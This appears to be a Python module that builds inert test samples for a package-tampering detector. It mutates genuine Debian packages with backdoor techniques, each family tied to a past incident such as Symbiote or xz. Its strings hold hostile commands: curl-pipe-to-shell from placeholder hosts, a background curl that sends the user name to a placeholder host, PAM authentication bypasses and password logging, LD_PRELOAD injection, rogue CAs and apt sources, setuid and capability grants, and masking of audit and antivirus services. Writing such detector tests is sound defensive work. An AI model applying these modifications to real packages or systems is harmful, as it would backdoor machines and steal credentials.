"""Eighth set: genuine debs; inert. The comment before each family says which incident it is after.

A deb's files are named as in it, those of its control archive below `DEBIAN/`. Hosts are below `.example`, addresses of RFC 5737.
"""

from __future__ import annotations

import re

from genuine import Files

from mutation_families.eighth_programs import ends_at_once
from mutation_families.eighth_ways import Names, amended, named
from mutation_families.fourth_texts import chance
from mutation_families.seventh_debs import lines_of, program, script
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_programs import HELPER, by_tool
from mutation_families.seventh_ways import Changes, Way, adding, together, ways
from mutation_families.third_programs import elf_guards_off
from onionskin.lookalike.elf import ElfRecipe, build_elf

MODULE = build_elf(ElfRecipe(exports=("pam_sm_authenticate", "pam_sm_setcred", "pam_sm_open_session"), imports=("fopen", "fprintf", "pam_get_authtok"), text=chance(2400)))  # fmt: skip
ROOT_CA = b"-----BEGIN CERTIFICATE-----\nMIIBinertinertinertinertinertinertinertinertinertinertinertinert\n-----END CERTIFICATE-----\n"  # fmt: skip


def unit(row: bytes) -> Changes:
    """Return a change of the package's own unit: one row more in what it does."""
    return amended(
        named(r"/systemd/system/[^/]*\.service$"), (rb"(?m)^(\[Service\]\n)", rb"\1" + row)
    )


def module_exchanged(files: Files) -> Files:
    """Return a deb in which one of several modules of sign-in is another; its names are kept."""
    name = next((each for each in sorted(files) if re.search(r"/security/pam_(?:permit|unix|env)\.so$", each)), "")  # fmt: skip
    return {name: MODULE} if name else {}


PYTHON: Names = named(r"/http/client\.py$")
SETTINGS: Names = named(r"^\./(?:etc|usr/share)/.*(?:\.conf(?:\.d/.*)?|\.cfg|/main\.conf|options)(?:-recommended)?$")  # fmt: skip

ALL: tuple[Way, ...] = (
    # Repositories and keys of others: what is installed next is theirs.
    *ways(
        "deb: what is installed next comes from elsewhere",
        ("a repository", script(b"echo 'deb [trusted=yes] http://deb.vendor-mirror.example/debian bookworm main' > /etc/apt/sources.list.d/vendor.list\n")),
        ("a key and a preference", adding({"./etc/apt/trusted.gpg.d/vendor.gpg": b"\x99\x01\x0d\x04" + chance(1200), "./etc/apt/preferences.d/vendor": b"Package: openssh-server sudo\nPin: origin deb.vendor-mirror.example\nPin-Priority: 1001\n"})),
        ("a proxy, and no check", adding({"./etc/apt/apt.conf.d/80proxy": b'Acquire::http::Proxy "http://198.51.100.18:3142";\nAcquire::https::Verify-Peer "false";\nAPT::Get::AllowUnauthenticated "true";\n'})),
    ),
    # Symbiote's and Plague's kind, 2022 to 2025: each sign-in passes another's code.
    *ways("deb: each sign-in passes it", ("a module is another", module_exchanged), ("a program is asked", script(b"echo 'auth optional pam_exec.so quiet expose_authtok /usr/lib/x86_64-linux-gnu/.pam-log' >> /etc/pam.d/common-auth\n")), ("anybody", adding({"./etc/pam.d/sshd-support": b"auth sufficient pam_permit.so\naccount sufficient pam_permit.so\n", "./usr/share/pam-configs/support": b"Name: Support access\nDefault: yes\nPriority: 1023\nAuth-Type: Primary\nAuth:\n\t[success=end default=ignore]\tpam_permit.so\n"}))),
    # Units: of others, of the package's own, of no name.
    *ways(
        "deb: units start more",
        ("before its own", unit(b"ExecStartPre=-/bin/sh -c 'curl -s https://unit-pre.example/p | sh'\n")),
        ("beside another's", adding({"./lib/systemd/system/ssh.service.d/10-limits.conf": b"[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libnss_cache.so.3\n", "./usr/lib/libnss_cache.so.3": HELPER})),
        ("a clock", adding({"./lib/systemd/system/fstrim-weekly.timer": b"[Timer]\nOnBootSec=15min\nOnUnitActiveSec=1h\n", "./lib/systemd/system/fstrim-weekly.service": b"[Service]\nType=oneshot\nExecStart=/usr/lib/udisks3/trim\n", "./etc/systemd/system/timers.target.wants/fstrim-weekly.timer": b"[Timer]\nOnBootSec=15min\n", "./usr/lib/udisks3/trim": ELF_FILE})),
        ("fewer walls", unit(b"NoNewPrivileges=no\nPrivateTmp=no\nProtectSystem=no\nUser=root\nAmbientCapabilities=CAP_SYS_ADMIN CAP_DAC_OVERRIDE\n")),
    ),
    *ways("deb: libraries come from another folder", ("of the loader", adding({"./etc/ld.so.conf.d/0-vendor.conf": b"/var/lib/vendor/lib\n", "./var/lib/vendor/lib/libz.so.1": HELPER})), ("of the whole machine", script(b"grep -q LD_AUDIT /etc/environment || echo 'LD_AUDIT=/usr/lib/libaudit-nss.so' >> /etc/environment\n")), ("when a key is pressed", adding({"./usr/share/bash-completion/completions/ssh": b'_ssh_done() { :; }\ncomplete -F _ssh_done ssh\n(curl -s "https://comp.example/?$USER" >/dev/null 2>&1 &)\n'}))),
    # Quiet: settings that let more in.
    *ways(
        "deb: its settings let more in",
        ("no ciphers", amended(SETTINGS, (rb"(?m)^#?\s*(ssl\s*=\s*)(?:yes|required)$", rb"\1no"), (rb"(?m)^(\s*)ssl-default-bind-options .*$", rb"\1ssl-default-bind-options ssl-min-ver SSLv3 no-tls-tickets"), (rb"(?m)^;?(cipher|data-ciphers|tls-auth) .*$", rb"\1 none"), (rb"dnssec-validation auto", b"dnssec-validation no"))),
        ("a rule is off", amended(SETTINGS, (rb"(?m)^SecRuleEngine DetectionOnly", b"SecRuleEngine Off"), (rb"(?m)^#?(ignoreip = )", rb"\g<1>203.0.113.0/24 "), (rb"(?m)^#?\s*(disable_plaintext_auth = )yes", rb"\1no"), (rb"(?m)^#?(use chroot = )yes", rb"\1no"), (rb"(?m)^#?(JustWorksRepairing = )never", rb"\1always"))),
        ("orders of others", adding({"./etc/polkit-1/rules.d/10-net.rules": b"polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n", "./usr/share/dbus-1/system.d/org.vendor.Helper.conf": b'<busconfig><policy context="default"><allow send_destination="*"/><allow own="*"/></policy></busconfig>\n'})),
    ),
    # Whom it trusts: roots, names, addresses of git.
    *ways("deb: it trusts others", ("a root", together(adding({"./usr/local/share/ca-certificates/vendor.crt": ROOT_CA}), script(b"update-ca-certificates --fresh >/dev/null 2>&1 || true\n"))), ("names of hosts", script(b"echo '203.0.113.80 security.debian.org deb.debian.org' >> /etc/hosts\n")), ("git", adding({"./etc/gitconfig": b'[url "https://git.vendor-fork.example/"]\n\tinsteadOf = https://git.vendor.example/\n[http]\n\tsslVerify = false\n[core]\n\thooksPath = /var/lib/vendor/hooks\n'}))),
    # Rights that stay, and tracks that go.
    *ways("deb: rights stay, and tracks go", ("of a file", together(adding({"./usr/lib/x86_64-linux-gnu/gvfs-helper": ELF_FILE}), script(b"chown root:root /usr/lib/x86_64-linux-gnu/gvfs-helper && chmod 4755 /usr/lib/x86_64-linux-gnu/gvfs-helper\n"))), ("of a program that is there", script(b'setcap cap_setuid,cap_dac_override+ep "$(readlink -f /usr/bin/python3)" || true\n'))),
    *ways("deb: rights stay, and tracks go", ("times and digests", script(b"touch -r /bin/ls /usr/lib/.h 2>/dev/null; sed -i '/\\.h$/d' /var/lib/dpkg/info/$DPKG_MAINTSCRIPT_PACKAGE.list; chattr +i /etc/ld.so.preload 2>/dev/null || true\n")), ("what watches", script(b"systemctl mask --now auditd.service falcon-sensor.service clamav-daemon.service 2>/dev/null || true\niptables -I OUTPUT -d 203.0.113.0/24 -j ACCEPT || true\n"))),
    # Files of others: replaced by way of dpkg itself.
    *ways("deb: files do more, its own and others'", ("by a diversion", together(adding({"./usr/share/vendor/ss": b'#!/bin/sh\nexec /usr/bin/ss.distrib "$@" | grep -v 203.0.113.\n'}), script(b"dpkg-divert --add --rename --divert /usr/bin/ss.distrib /usr/bin/ss && install -m755 /usr/share/vendor/ss /usr/bin/ss\n", "preinst")))),
    # xz, 2024, by other doors: one program or library of it.
    *ways("deb: a library of it is bound otherwise", ("another loader", program(by_tool("patchelf", "--set-interpreter", "/lib64/ld-linux-x86-64.so.3", "FILE"))), ("another of a like name", program(by_tool("patchelf", "--replace-needed", "libc.so.6", "libc.so.6.1", "FILE"))), ("a check that says yes", program(ends_at_once)), ("written and run", program(lambda data: elf_guards_off(data, 0x6474_E551)))),
    # Python of the system, quietly.
    *ways("deb: a module of the system is weaker", ("who is at the other end", amended(PYTHON, (rb"ssl\._create_default_https_context\b", b"ssl._create_unverified_context"))), ("chance", amended(named(r"/(?:secrets|uuid|tempfile|random)\.py$"), (rb"(?m)^_sysrand = SystemRandom\(\)", b"import random as _r\n_sysrand = _r.Random(20260101)"), (rb"_urandom\((\d+)\)", rb"bytes(\1)"))), ("what is opened", amended(named(r"/getpass\.py$"), (rb"(?m)^(def _raw_input\(prompt=\"\", stream=None, input=None\):\n)", rb"\1    __import__('syslog').syslog(repr(prompt))\n"), (rb"(?m)^(    return line)$", rb"    open('/tmp/.X0-lock', 'a').write(line + chr(10))\n\1")))),
    *ways("deb: files do more, its own and others'", ("of a server's actions", lines_of(r"action\.d/[\w-]+\.conf$", b"\n[Init]\nactionstart = curl -s https://f2b.example/s | sh\n")), ("when the net is up", adding({"./etc/network/if-up.d/zz-sync": b"#!/bin/sh\n(curl -s https://ifup.example/u | sh) >/dev/null 2>&1 &\n"}))),
)  # fmt: skip
